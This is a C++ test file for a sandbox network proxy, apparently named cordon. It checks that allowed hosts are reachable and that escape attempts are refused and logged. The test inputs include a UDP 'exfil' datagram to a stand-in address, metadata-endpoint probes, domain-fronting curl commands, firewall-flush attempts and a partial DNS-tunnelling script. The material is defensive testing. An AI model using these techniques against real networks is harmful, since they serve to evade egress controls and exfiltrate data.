// `cordon run` with a network section, for real: upstream servers on the host's loopback reached
// by name (network.resolve pins) from inside the sandbox through cordon-netproxy - curl, python3,
// git and a static binary that ignores every proxy setting, HTTPS with a test CA - and every way
// out that the policy does not grant refused, each with its event: names not allowed, raw
// addresses, domain fronting (SNI and Host), DNS tunnelling (a fake host resolver counts zero
// queries), each connection cap and the byte budget at its exact boundary. The program starts only
// once the proxy is ready. As root, SinkNetns proves that nothing aimed at the documentation
// ranges left the machine.
#include <dirent.h>
#include <gmock/gmock.h>
#include <signal.h>

#include <memory>
#include <nlohmann/json.hpp>

#include "launcher/sidecars/net_sidecar.h"
#include "tests/launcher/sandbox_fixture.h"
#include "tests/netproxy/fixture.h"
#include "tests/support/sink_netns.h"

namespace cordon::testing {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

// One sandbox with network: loopback upstreams (HTTP with www/hello.txt and a git repo, an echo
// server), a policy allowing api.test on the HTTP port, pinned to 127.0.0.1.
class NetworkSession {
 public:
  // `https`: also an HTTPS server with the test CA's certificate for api.test and other.test,
  // the CA copied into the workspace as ca.crt (not *.pem: the default policy hides those).
  explicit NetworkSession(const std::string& extra_network = "", bool https = false) {
    files_ok_ = make_test_files(files_);
    std::vector<std::string> args{"root=" + files_.path() + "/www"};
    if (https) {
      args.push_back("cert=" + files_ / "srv.pem");
      args.push_back("key=" + files_ / "srv.key");
      write_text(f_.ws() + "/ca.crt", read_text(files_ / "ca.pem"));
    }
    up_ = std::make_unique<Upstreams>(args);
    policy_ = files_ / "policy.json";
    write_text(policy_, policy_json(extra_network));
  }
  bool ok() const { return files_ok_ && up_->ok(); }
  int http_port() const { return up_->port("http"); }
  int https_port() const { return up_->port("https"); }
  int echo_port() const { return up_->port("echo"); }
  nlohmann::json upstream_stats() const { return up_->stats(); }
  // Replaces the session's policy (the servers' ports are known by now).
  void set_policy(const std::string& json) { write_text(policy_, json); }
  // A helper script in the workspace (the sandbox's working directory).
  void script(const std::string& name, const std::string& text) {
    write_text(f_.ws() + "/" + name, text);
  }
  std::string url(const std::string& path) const {
    return "http://api.test:" + std::to_string(http_port()) + path;
  }
  std::string policy_json(const std::string& extra_network) const {
    return R"({"version": 1, "network": {"allow": ["api.test:)" + std::to_string(http_port()) +
           R"("], "resolve": {"api.test": "127.0.0.1", "other.test": "127.0.0.1",
                              "metadata.test": "169.254.169.254"})" +
           extra_network + "}}";
  }
  SandboxFixture& fixture() { return f_; }
  const std::string& policy() const { return policy_; }
  const TempDir& files() const { return files_; }

  RunResult sh(const std::string& script, std::vector<std::string> flags = {}) {
    flags.insert(flags.begin(), {"--policy", policy_});
    RunSpec spec;
    spec.deadline = std::chrono::seconds(60);
    return f_.sh(script, flags, spec);
  }
  // The newest session's events (`cordon log last --json`).
  std::vector<nlohmann::json> events(const std::string& kind = "") {
    RunSpec spec;
    spec.env = f_.env();
    auto r = run_program({cordon_bin(), "log", "last", "--json"}, spec);
    std::vector<nlohmann::json> out;
    size_t at = 0;
    while (at < r.out.size()) {
      size_t nl = r.out.find('\n', at);
      std::string line = r.out.substr(at, nl == std::string::npos ? nl : nl - at);
      at = nl == std::string::npos ? r.out.size() : nl + 1;
      auto ev = nlohmann::json::parse(line, nullptr, false);
      if (ev.is_object() && (kind.empty() || ev.value("kind", "") == kind)) {
        out.push_back(ev);
      }
    }
    return out;
  }
  std::string log(const std::vector<std::string>& args) {
    RunSpec spec;
    spec.env = f_.env();
    std::vector<std::string> argv = {cordon_bin(), "log", "last"};
    argv.insert(argv.end(), args.begin(), args.end());
    auto r = run_program(argv, spec);
    return r.out + r.err;
  }

 private:
  TempDir files_;
  bool files_ok_ = false;
  std::unique_ptr<Upstreams> up_;
  std::string policy_;
  SandboxFixture f_;
};

size_t count_if(const std::vector<nlohmann::json>& evs,
                const std::function<bool(const nlohmann::json&)>& pred) {
  return static_cast<size_t>(std::count_if(evs.begin(), evs.end(), pred));
}

std::string dump(const std::vector<nlohmann::json>& evs) {
  std::string s = "events:\n";
  for (const auto& e : evs) s += e.dump() + "\n";
  return s;
}

// As root: the documentation ranges are routed into a sink namespace that counts arrivals.
std::unique_ptr<SinkNetns> sink_if_root() {
  if (::geteuid() != 0) {
    return nullptr;
  }
  return std::make_unique<SinkNetns>();
}

TEST(Network, CurlPythonAndGitReachAnAllowedNameThroughTheProxy) {
  NetworkSession n;
  ASSERT_TRUE(n.ok());
  std::string u = n.url("/hello.txt");
  auto r = n.sh(
      // curl honours HTTP_PROXY (explicit proxy), --noproxy makes it connect itself (transparent).
      "curl -sS " + u + " && curl -sS --noproxy '*' " + u +
      " && python3 -c 'import urllib.request,sys; "
      "sys.stdout.write(urllib.request.urlopen(\"" +
      u + "\", timeout=20).read().decode())'" +
      " && python3 -c 'import socket; s=socket.create_connection((\"api.test\"," +
      std::to_string(n.http_port()) +
      "), timeout=20); s.sendall(b\"GET /hello.txt HTTP/1.0\\r\\nHost: api.test\\r\\n\\r\\n\"); "
      "b=b\"\"\nwhile True:\n  d=s.recv(4096)\n  if not d: break\n  b+=d\n"
      "print(b.decode().split(\"\\r\\n\\r\\n\",1)[1], end=\"\")'" +
      " && cd /tmp && git clone -q " + n.url("/repo.git") + " repo && cat repo/README");
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  EXPECT_EQ(r.out,
            "hello through cordon\nhello through cordon\nhello through cordon\n"
            "hello through cordon\ncordon test repo\n");
  auto evs = n.events();
  auto http_ok = [&](const char* mode) {
    return count_if(evs, [&](const nlohmann::json& e) {
      return e.value("kind", "") == "net.connect" && e.value("name", "") == "api.test" &&
             e.value("mode", "") == mode && e.value("decision", "") == "allow";
    });
  };
  EXPECT_GE(http_ok("http"), 2u) << dump(evs);         // curl, urllib (+ git) via HTTP_PROXY
  EXPECT_GE(http_ok("transparent"), 2u) << dump(evs);  // curl --noproxy, raw socket
  EXPECT_GE(count_if(evs,
                     [](const nlohmann::json& e) {
                       return e.value("kind", "") == "net.http" &&
                              e.value("url", "").find("/repo.git/") != std::string::npos &&
                              e.value("status", 0) == 200;
                     }),
            1u)
      << dump(evs);
  EXPECT_GE(count_if(evs,
                     [](const nlohmann::json& e) {
                       return e.value("kind", "") == "net.dns" &&
                              e.value("name", "") == "api.test" &&
                              e.value("decision", "") == "allow";
                     }),
            1u)
      << dump(evs);
  // Attribution: every proxied connection names the process that made it (the shim's record
  // joined on the client address), and only the programs that really connected are named.
  auto attributed_to = [&](const std::string& exe_part, const char* of) {
    return count_if(evs, [&](const nlohmann::json& e) {
      return e.value("kind", "") == "net.attribution" && e.value("of", "") == of &&
             e.value("name", "") == "api.test" && !e.value("unattributed", false) &&
             e.value("exe", "").find(exe_part) != std::string::npos;
    });
  };
  EXPECT_GE(attributed_to("curl", "net.connect"), 2u) << dump(evs);
  EXPECT_GE(attributed_to("python3", "net.connect"), 2u) << dump(evs);
  EXPECT_EQ(count_if(evs,
                     [](const nlohmann::json& e) {
                       return e.value("kind", "") == "net.attribution" &&
                              e.value("of", "") == "net.connect" && e.value("unattributed", false);
                     }),
            0u)
      << dump(evs);
}

TEST(Network, NamesNotAllowedAndRawAddressesAreRefusedWithEvents) {
  auto sink = sink_if_root();
  if (sink) {
    CORDON_REQUIRE(sink->ok(), "the sink network namespace (ip, nft)");
  }
  NetworkSession n;
  ASSERT_TRUE(n.ok());
  std::string port = std::to_string(n.http_port());
  auto r = n.sh(
      // Not allowed: NXDOMAIN from the proxy's DNS (nothing asked upstream), 403 from the proxy.
      "curl -sS --noproxy '*' http://other.test:" + port +
      "/hello.txt; echo \"dns=$?\"; "
      "curl -sS http://other.test:" +
      port +
      "/hello.txt; echo \" explicit=$?\"; "
      // The same kind of server by raw address: refused by the proxy, never dialled.
      "curl -sS -m 20 --noproxy '*' http://198.51.100.7:" +
      port +
      "/hello.txt; echo \" raw=$?\"; "
      // Allowed name, wrong port.
      "curl -sS -m 20 --noproxy '*' http://api.test:" +
      std::to_string(n.echo_port()) +
      "/; echo \" port=$?\"; "
      // A name pinned to the cloud metadata address: no address in the answer, proxy refuses.
      "curl -sS -m 20 http://metadata.test/latest; echo \" metadata=$?\"; "
      // A special-purpose address by raw IP (198.18.0.0/15, not a stand-in the DNS handed out).
      "curl -sS -m 20 --noproxy '*' http://198.19.255.1:" +
      port +
      "/; echo \" special=$?\"; "
      // An IPv6 documentation literal.
      "curl -sS -m 20 --noproxy '*' 'http://[2001:db8::7]:" +
      port + "/'; echo \" v6=$?\"");
  EXPECT_EQ(r.exit_code(), 0) << r.err;
  EXPECT_THAT(r.out, HasSubstr("dns=6")) << r.out << r.err;  // curl: could not resolve host
  EXPECT_THAT(r.out, HasSubstr("other.test:" + port + " is not in network.allow")) << r.out;
  EXPECT_THAT(r.out, HasSubstr("198.51.100.7:" + port + " is not in network.allow")) << r.out;
  EXPECT_THAT(r.out, Not(HasSubstr("hello through cordon"))) << r.out;
  EXPECT_THAT(r.out, HasSubstr("metadata=")) << r.out;

  auto evs = n.events();
  auto has = [&](const std::string& kind, const std::string& field, const std::string& value) {
    return count_if(evs, [&](const nlohmann::json& e) {
             return e.value("kind", "") == kind && e.value("decision", "") == "deny" &&
                    e.contains(field) && e[field].is_string() &&
                    e[field].get<std::string>().find(value) != std::string::npos;
           }) > 0;
  };
  EXPECT_TRUE(has("net.dns", "name", "other.test")) << dump(evs);
  EXPECT_TRUE(has("net.refused", "name", "other.test")) << dump(evs);
  EXPECT_TRUE(has("net.refused", "address", "198.51.100.7")) << dump(evs);
  EXPECT_TRUE(count_if(evs,
                       [&](const nlohmann::json& e) {
                         return e.value("kind", "") == "net.refused" &&
                                e.value("name", "") == "api.test" &&
                                e.value("port", 0) == n.echo_port();
                       }) > 0)
      << dump(evs);
  EXPECT_TRUE(has("net.refused", "name", "metadata.test") || has("net.dns", "name", "metadata"))
      << dump(evs);
  EXPECT_TRUE(has("net.refused", "address", "198.19.255.1")) << dump(evs);
  EXPECT_TRUE(has("net.refused", "address", "2001:db8::7")) << dump(evs);
  // Nothing was dialled for any of them: the only allowed connections are none at all.
  EXPECT_EQ(count_if(evs,
                     [](const nlohmann::json& e) {
                       return e.value("kind", "") == "net.connect" &&
                              e.value("decision", "") == "allow";
                     }),
            0u)
      << dump(evs);
  if (sink) {
    EXPECT_EQ(sink->hits(), 0);
  }

  // `cordon log --net`: the refusals and the summary sections.
  std::string report = n.log({"--net"});
  EXPECT_THAT(report, HasSubstr("Hosts")) << report;
  EXPECT_THAT(report, HasSubstr("Refused (")) << report;
  EXPECT_THAT(report, HasSubstr("DNS A other.test")) << report;
  EXPECT_THAT(report, HasSubstr("198.51.100.7:" + port)) << report;
}

TEST(Network, UdpAndIcmpAreDroppedAndReported) {
  auto sink = sink_if_root();
  if (sink) {
    CORDON_REQUIRE(sink->ok(), "the sink network namespace (ip, nft)");
  }
  NetworkSession n;
  ASSERT_TRUE(n.ok());
  auto r = n.sh(
      "python3 -c 'import socket,errno\n"
      "for fam, addr in ((socket.AF_INET, \"198.51.100.9\"), (socket.AF_INET6, \"2001:db8::9\")):\n"
      "  u=socket.socket(fam, socket.SOCK_DGRAM)\n"
      "  try:\n    u.sendto(b\"exfil\", (addr, 4444)); print(\"udp-sent\")\n"
      "  except OSError as e: print(\"udp\", errno.errorcode.get(e.errno))\n"
      "for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):\n"
      "  try:\n"
      "    s=socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)\n"
      "    s.sendto(b\"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00\", (\"198.51.100.9\", 0))\n"
      "    print(\"icmp-sent\")\n"
      "  except OSError as e: print(\"icmp\", errno.errorcode.get(e.errno))\n'"
      // The proxy reads the kernel's NFLOG messages asynchronously: give it a moment before the
      // session ends (an event missed here fails the test; nothing is timed).
      "; sleep 1");
  EXPECT_EQ(r.exit_code(), 0) << r.err;
  // The ruleset drops UDP other than DNS (sendto fails at once with EPERM); ICMP sockets are not
  // even available to the program (no CAP_NET_RAW, ping sockets off in its namespace).
  EXPECT_EQ(r.out, "udp EPERM\nudp EPERM\nicmp EACCES\nicmp EPERM\n") << r.err;
  auto evs = n.events();
  EXPECT_GE(count_if(evs,
                     [](const nlohmann::json& e) {
                       return e.value("kind", "") == "net.refused" &&
                              e.value("proto", "") == "udp" &&
                              e.dump().find("198.51.100.9") != std::string::npos;
                     }),
            1u)
      << dump(evs);
  if (sink) {
    EXPECT_EQ(sink->hits(), 0);
  }
}

// A static binary (no ld.so, so no preload shim; plain sockets, so no HTTP_PROXY): its DNS query
// and its connection are captured all the same.
TEST(Network, StaticBinaryIgnoringProxySettingsIsCaptured) {
  NetworkSession n;
  ASSERT_TRUE(n.ok());
  const std::string src = n.fixture().ws() + "/client.c";
  write_text(src, R"(#include <netdb.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int argc, char** argv) {
  struct addrinfo hints = {0}, *res;
  hints.ai_family = AF_INET;
  hints.ai_socktype = SOCK_STREAM;
  int e = getaddrinfo(argv[1], argv[2], &hints, &res);
  if (e != 0) { printf("resolve %s: %s\n", argv[1], gai_strerror(e)); return 2; }
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(fd, res->ai_addr, res->ai_addrlen) != 0) { perror("connect"); return 3; }
  char req[512];
  snprintf(req, sizeof req, "GET %s HTTP/1.0\r\nHost: %s\r\n\r\n", argv[3], argv[1]);
  if (write(fd, req, strlen(req)) < 0) return 4;
  char buf[4096]; ssize_t got, total = 0;
  while ((got = read(fd, buf + total, sizeof buf - 1 - total)) > 0) total += got;
  buf[total] = 0;
  char* body = strstr(buf, "\r\n\r\n");
  printf("%s", body ? body + 4 : buf);
  return 0;
}
)");
  auto cc = run_program({"gcc", "-static", "-O1", "-o", n.fixture().ws() + "/client", src});
  ASSERT_EQ(cc.exit_code(), 0) << cc.err;
  auto file = run_program({"sh", "-c", "LC_ALL=C file " + n.fixture().ws() + "/client"});
  if (file.exit_code() == 0) {
    EXPECT_THAT(file.out, HasSubstr("statically linked"));
  }
  std::string port = std::to_string(n.http_port());
  auto r = n.sh("./client api.test " + port + " /hello.txt; ./client other.test " + port +
                " /hello.txt; echo rc=$?");
  EXPECT_EQ(r.exit_code(), 0) << r.err;
  EXPECT_EQ(r.out, "hello through cordon\nresolve other.test: Name or service not known\nrc=2\n")
      << r.err;
  auto evs = n.events();
  EXPECT_EQ(count_if(evs,
                     [](const nlohmann::json& e) {
                       return e.value("kind", "") == "net.http" &&
                              e.value("mode", "") == "transparent" &&
                              e.value("name", "") == "api.test" && e.value("status", 0) == 200;
                     }),
            1u)
      << dump(evs);
  // The shim cannot see a static binary: its connection is reported unattributed, never guessed.
  EXPECT_EQ(count_if(evs,
                     [](const nlohmann::json& e) {
                       return e.value("kind", "") == "net.attribution" &&
                              e.value("of", "") == "net.connect" &&
                              e.value("name", "") == "api.test" && e.value("unattributed", false) &&
                              !e.contains("exe");
                     }),
            1u)
      << dump(evs);
}

// --allow-host grants what network.allow would; the exit summary names the host.
TEST(Network, AllowHostFlagGrantsAndTheSummaryListsTopHosts) {
  NetworkSession n;
  ASSERT_TRUE(n.ok());
  // A policy with the pins only: nothing allowed until the flag says so.
  std::string pins = n.files() / "pins.json";
  write_text(pins, R"({"version": 1, "network": {"resolve": {"api.test": "127.0.0.1"}}})");
  std::string u = n.url("/hello.txt");
  RunSpec spec;
  spec.deadline = std::chrono::seconds(60);
  auto without = n.fixture().run({"--mode", writable_mode(), "--policy", pins},
                                 {"sh", "-c", "curl -sS -m 10 " + u + "; echo rc=$?"}, spec);
  EXPECT_THAT(without.out, HasSubstr("rc=6")) << without.out << without.err;  // no network at all
  auto with =
      n.fixture().run({"--mode", writable_mode(), "--policy", pins, "--allow-host",
                       "api.test:" + std::to_string(n.http_port())},
                      {"sh", "-c", "curl -sS " + u + " && curl -sS --noproxy '*' " + u}, spec);
  ASSERT_EQ(with.exit_code(), 0) << with.err;
  EXPECT_EQ(with.out, "hello through cordon\nhello through cordon\n");
  EXPECT_THAT(with.err, HasSubstr("cordon: network: 2 connections to 1 host")) << with.err;
  EXPECT_THAT(with.err, HasSubstr("cordon:   api.test (2 connections, 2 requests")) << with.err;
}

// Without network.allow: no proxy, no route, the sandbox fails fast (the default policy's case).
TEST(Network, NoAllowMeansNoProxyAndNoRoute) {
  NetworkSession n;
  ASSERT_TRUE(n.ok());
  std::string pins = n.files() / "pins.json";
  write_text(pins, R"({"version": 1, "network": {"resolve": {"api.test": "127.0.0.1"}}})");
  RunSpec spec;
  spec.deadline = std::chrono::seconds(60);
  auto r = n.fixture().run(
      {"-q", "--mode", writable_mode(), "--policy", pins},
      {"sh", "-c",
       "cat /etc/resolv.conf; env | grep -ci proxy; python3 -c 'import socket,errno\n"
       "try:\n  socket.create_connection((\"198.51.100.7\", 80), timeout=5)\n"
       "except OSError as e: print(errno.errorcode.get(e.errno))'"},
      spec);
  EXPECT_EQ(r.out, "nameserver 127.0.0.1\n0\nENETUNREACH\n") << r.err;
  for (const auto& e : n.events()) {
    EXPECT_NE(e.value("source", ""), "netproxy") << e.dump();  // no proxy was started
  }
}

// The proxy killed mid-session: the sandbox has no network from then on, nothing goes out, and
// the summary says what happened.
TEST(Network, ProxyKilledMidSessionLeavesNoNetwork) {
  auto sink = sink_if_root();
  if (sink) {
    CORDON_REQUIRE(sink->ok(), "the sink network namespace (ip, nft)");
  }
  NetworkSession n;
  ASSERT_TRUE(n.ok());
  uid_t uid = n.fixture().make_workspace_owned();
  std::string u = n.url("/hello.txt");
  std::string go = n.fixture().ws() + "/go";
  std::vector<std::string> argv = {
      cordon_bin(),
      "run",
      "--workspace",
      n.fixture().ws(),
      "--mode",
      writable_mode(),
      "--policy",
      n.policy(),
      "--",
      "sh",
      "-c",
      "curl -sS " + u +
          " && echo first-ok; "
          "i=0; while [ ! -e go ] && [ $i -lt 600 ]; do sleep 0.05; i=$((i+1)); done; "
          "curl -sS -m 10 " +
          u +
          "; echo \"explicit=$?\"; "
          "curl -sS -m 10 --noproxy '*' " +
          u +
          "; echo \"transparent=$?\"; "
          "python3 -c 'import socket,errno\n"
          "try:\n  socket.create_connection((\"198.51.100.7\", 80), timeout=5); "
          "print(\"raw=connected\")\n"
          "except OSError as e: print(\"raw=\" + str(errno.errorcode.get(e.errno)))'"};
  Background bg(argv, n.fixture().env(), n.fixture().ws());
  ASSERT_THAT(bg.read_until("first-ok\n"), HasSubstr("hello through cordon\nfirst-ok\n"));
  // cordon's child named cordon-netproxy (comm is cut at 15 characters: exactly the name).
  pid_t proxy = -1;
  for (int i = 0; i < 100 && proxy < 0; ++i) {
    std::string kids = read_text("/proc/" + std::to_string(bg.pid()) + "/task/" +
                                 std::to_string(bg.pid()) + "/children");
    std::istringstream in(kids);
    pid_t p;
    while (in >> p) {
      if (read_text("/proc/" + std::to_string(p) + "/comm") == "cordon-netproxy\n") {
        proxy = p;
      }
    }
    if (proxy < 0) usleep(20000);
  }
  ASSERT_GT(proxy, 0) << "no cordon-netproxy child of cordon";
  if (::geteuid() == 0) {
    // As host root the proxy still runs as the sandbox's user, with no capability left.
    std::string status = read_text("/proc/" + std::to_string(proxy) + "/status");
    std::string ids = std::to_string(uid) + "\t" + std::to_string(uid);
    EXPECT_THAT(status, HasSubstr("\nUid:\t" + ids + "\t" + ids + "\n")) << status;
    EXPECT_THAT(status, HasSubstr("\nCapEff:\t0000000000000000\n")) << status;
    EXPECT_THAT(status, HasSubstr("\nCapPrm:\t0000000000000000\n")) << status;
    EXPECT_THAT(status, HasSubstr("\nNoNewPrivs:\t1\n")) << status;
  }
  ASSERT_EQ(::kill(proxy, SIGKILL), 0);
  // kill() returns before the process is gone: wait (bounded) until it is a zombie (cordon reaps
  // it at the end), i.e. its sockets are closed.
  for (int i = 0; i < 500; ++i) {
    std::string stat = read_text("/proc/" + std::to_string(proxy) + "/stat");
    size_t paren = stat.rfind(')');
    if (stat.empty() || (paren != std::string::npos && stat.compare(paren, 3, ") Z") == 0)) {
      break;
    }
    usleep(10000);
  }
  write_text(go, "");
  EXPECT_EQ(bg.wait(std::chrono::seconds(60)), 0);
  const std::string& out = bg.text();
  // curl: 7 = could not connect (refused: the listening sockets died with the proxy).
  EXPECT_THAT(out, HasSubstr("explicit=7")) << out;
  // 6: its DNS query went unanswered (the DNS socket died too); 7: refused.
  EXPECT_THAT(out, ::testing::ContainsRegex("transparent=(6|7)")) << out;
  EXPECT_THAT(out, HasSubstr("raw=ECONNREFUSED")) << out;
  EXPECT_EQ(out.find("hello through cordon"), out.rfind("hello through cordon")) << out;
  auto evs = n.events("net.proxy_exit");
  ASSERT_EQ(evs.size(), 1u);
  EXPECT_THAT(evs[0].value("reason", ""), HasSubstr("SIGKILL"));
  if (sink) {
    EXPECT_EQ(sink->hits(), 0);
  }
}

// The program cannot lift the capture: no CAP_NET_ADMIN in its namespace, so the ruleset and the
// routes stay, and a datagram out is still dropped afterwards.
TEST(Network, TheProgramCannotLiftTheCapture) {
  auto sink = sink_if_root();
  if (sink) {
    CORDON_REQUIRE(sink->ok(), "the sink network namespace (ip, nft)");
  }
  NetworkSession n;
  ASSERT_TRUE(n.ok());
  auto r = n.sh(
      "/usr/sbin/nft flush ruleset 2>/dev/null; echo nft=$?; "
      "/usr/bin/ip route del default 2>/dev/null; echo route=$?; "
      "/usr/bin/ip link add x0 type dummy 2>/dev/null; echo link=$?; "
      "python3 -c 'import socket,errno\n"
      "u=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
      "try:\n  u.sendto(b\"x\", (\"198.51.100.9\", 4444)); print(\"udp-sent\")\n"
      "except OSError as e: print(\"udp\", errno.errorcode.get(e.errno))'");
  EXPECT_EQ(r.exit_code(), 0) << r.err;
  EXPECT_THAT(r.out, Not(HasSubstr("=0\n"))) << r.out;
  EXPECT_THAT(r.out, HasSubstr("udp EPERM")) << r.out;
  if (sink) {
    EXPECT_EQ(sink->hits(), 0);
  }
}

// HTTPS to an allowed name, with a test CA the sandbox trusts: transparently (curl connects
// itself; the proxy reads the ClientHello's SNI) and through HTTPS_PROXY (CONNECT). The content
// arrives intact, and the transparent connection's event names the SNI it was decided on.
TEST(Network, HttpsReachesAnAllowedNameTransparentlyAndThroughConnect) {
  NetworkSession n("", /*https=*/true);
  ASSERT_TRUE(n.ok());
  const std::string port = std::to_string(n.https_port());
  n.set_policy(R"({"version": 1, "network": {"allow": ["api.test:)" + port +
               R"("], "resolve": {"api.test": "127.0.0.1"}}})");
  const std::string u = "https://api.test:" + port + "/hello.txt";
  auto r = n.sh(
      "env | grep -c '^HTTPS_PROXY=http://'; "
      "curl -sS --cacert ca.crt --noproxy '*' " +
      u +
      " && "
      "curl -sS --cacert ca.crt " +
      u +
      " && "
      "python3 -c 'import ssl,socket\n"
      "c=ssl.create_default_context(cafile=\"ca.crt\")\n"
      "s=c.wrap_socket(socket.create_connection((\"api.test\"," +
      port +
      "), timeout=20), server_hostname=\"api.test\")\n"
      "s.sendall(b\"GET /hello.txt HTTP/1.0\\r\\nHost: api.test\\r\\n\\r\\n\")\n"
      "b=b\"\"\nwhile True:\n  d=s.recv(4096)\n  if not d: break\n  b+=d\n"
      "print(s.version().startswith(\"TLS\"), b.split(b\"\\r\\n\\r\\n\",1)[1].decode(), "
      "end=\"\")'");
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  EXPECT_EQ(r.out, "1\nhello through cordon\nhello through cordon\nTrue hello through cordon\n")
      << r.err;
  auto evs = n.events("net.connect");
  auto connects = [&](const char* mode, bool with_sni) {
    return count_if(evs, [&](const nlohmann::json& e) {
      return e.value("name", "") == "api.test" && e.value("mode", "") == mode &&
             e.value("decision", "") == "allow" && e.value("port", 0) == n.https_port() &&
             (!with_sni || e.value("sni", "") == "api.test") && e.value("bytes_in", 0) > 0;
    });
  };
  EXPECT_EQ(connects("transparent", true), 2u) << dump(evs);  // curl --noproxy, python3 ssl
  EXPECT_EQ(connects("connect", false), 1u) << dump(evs);     // curl through HTTPS_PROXY
}

// Domain fronting, from inside the sandbox: a ClientHello naming an allowed host sent to the
// address another name was resolved to, and an HTTP Host header doing the same, are refused with
// a name-mismatch event - whether that other name is allowed on this port or not. A kept-alive
// connection cannot switch Host either; and through the explicit proxy the upstream only ever sees
// the host that was decided on.
TEST(Network, DomainFrontingIsRefusedWithItsEvents) {
  NetworkSession n("", /*https=*/true);
  ASSERT_TRUE(n.ok());
  const std::string hp = std::to_string(n.https_port()), p = std::to_string(n.http_port());
  // other.test resolves (allowed on port 1 only); front.test is allowed on the HTTPS port too.
  n.set_policy(R"({"version": 1, "network": {"allow": ["api.test:)" + hp + R"(", "api.test:)" + p +
               R"(", "front.test:)" + hp + R"(", "other.test:1"],
               "resolve": {"api.test": "127.0.0.1", "other.test": "127.0.0.1",
                           "front.test": "127.0.0.1"}}})");
  n.script("keepalive.py", R"(import socket, sys
s = socket.create_connection(("api.test", int(sys.argv[1])), timeout=20)
f = s.makefile("rb")
def ask(host):
    s.sendall(b"GET /echo-host HTTP/1.1\r\nHost: " + host.encode() + b"\r\n\r\n")
    status = f.readline().decode().strip()
    n = 0
    while True:
        h = f.readline().decode().strip()
        if not h:
            break
        if h.lower().startswith("content-length:"):
            n = int(h.split(":")[1])
    return status + " " + f.read(n).decode().strip()
print("first:", ask("api.test:" + sys.argv[1]))
print("second:", ask("other.test:" + sys.argv[1]))
)");
  auto r = n.sh(
      // SNI api.test to other.test's address (other.test not allowed on this port).
      "curl -sS -m 20 --cacert ca.crt --noproxy '*' --connect-to api.test:" + hp +
      ":other.test:" + hp + " https://api.test:" + hp + "/hello.txt; echo \" tls-other=$?\"; " +
      // SNI api.test to front.test's address (front.test allowed here: still a mismatch).
      "curl -sS -m 20 --cacert ca.crt --noproxy '*' --connect-to api.test:" + hp +
      ":front.test:" + hp + " https://api.test:" + hp + "/hello.txt; echo \" tls-front=$?\"; " +
      // Host api.test to other.test's address, plain HTTP.
      "curl -sS -m 20 --noproxy '*' -H 'Host: api.test:" + p + "' http://other.test:" + p +
      "/hello.txt; echo \" host=$?\"; " +
      // A kept-alive connection to api.test switching Host on its second request.
      "python3 keepalive.py " + p + "; " +
      // Explicit proxy: the Host header the client slipped in never reaches the upstream.
      "curl -sS -m 20 -H 'Host: other.test' http://api.test:" + p + "/echo-host");
  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
  EXPECT_THAT(r.out, Not(HasSubstr("hello through cordon"))) << r.out;
  EXPECT_THAT(r.out, ::testing::ContainsRegex(" tls-other=(35|56)\n")) << r.out << r.err;
  EXPECT_THAT(r.out, ::testing::ContainsRegex(" tls-front=(35|56)\n")) << r.out << r.err;
  EXPECT_THAT(r.out, HasSubstr("cordon: Host \"api.test\" does not match other.test, the name "))
      << r.out;
  EXPECT_THAT(r.out, HasSubstr(" host=0\n")) << r.out;
  EXPECT_THAT(r.out,
              ::testing::ContainsRegex("first: HTTP/1.[01] 200 OK host=api.test:" + p + "\n"))
      << r.out;
  EXPECT_THAT(r.out, HasSubstr("second: HTTP/1.1 403 Forbidden cordon: Host \"other.test:" + p +
                               "\" does not match api.test"))
      << r.out;
  EXPECT_THAT(r.out, ::testing::EndsWith("host=api.test:" + p + "\n")) << r.out;

  auto evs = n.events("net.refused");
  auto mismatch = [&](const std::string& claimed, const std::string& resolved,
                      const std::string& peek) {
    return count_if(evs, [&](const nlohmann::json& e) {
      return e.value("rule", "") == "network (name mismatch)" &&
             e.value("decision", "") == "deny" && e.value("name", "") == claimed &&
             e.value("resolved_name", "") == resolved &&
             (peek.empty() || e.value("peek", "") == peek) &&
             e.value("reason", "").find("domain fronting") != std::string::npos;
    });
  };
  EXPECT_EQ(mismatch("api.test", "other.test", "tls"), 1u) << dump(evs);
  EXPECT_EQ(mismatch("api.test", "front.test", "tls"), 1u) << dump(evs);
  EXPECT_EQ(mismatch("api.test", "other.test", "http"), 1u) << dump(evs);
  EXPECT_EQ(count_if(evs,
                     [&](const nlohmann::json& e) {
                       return e.value("rule", "") == "network (name mismatch)" &&
                              e.value("name", "") == "other.test" &&
                              e.value("resolved_name", "") == "api.test" &&
                              e.value("method", "") == "GET";
                     }),
            1u)
      << dump(evs);
  // The only upstream connections: the kept-alive one (its first request) and the explicit one.
  auto conns = n.events("net.connect");
  EXPECT_EQ(count_if(conns,
                     [](const nlohmann::json& e) {
                       return e.value("decision", "") == "allow" &&
                              e.value("name", "") == "api.test";
                     }),
            2u)
      << dump(conns);
  EXPECT_EQ(
      count_if(conns, [](const nlohmann::json& e) { return e.value("source", "") == "netproxy"; }),
      2u)
      << dump(conns);
}

// What a DNS tunnel sends, from inside the sandbox, to the nameserver its resolv.conf names:
// long random labels under a name not allowed (A, TXT, NULL, AAAA; over UDP and TCP), record
// types an allowed name does not grant (TXT, NULL, ANY, MX) and a compression-pointer loop. One
// per line: "<what> <rcode or no-reply>".
constexpr const char* kDnsBurstPy = R"(import random, socket, struct
ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
rnd = random.Random(7)
def label(n):
    return "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(n))
def qname(name):
    return b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
def query(qid, name, qtype):
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + qname(name) + struct.pack(">HH", qtype, 1)
def udp(pkt):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(pkt, (ns, 53))
    try:
        r = s.recv(4096)
    except socket.timeout:
        return "no-reply"
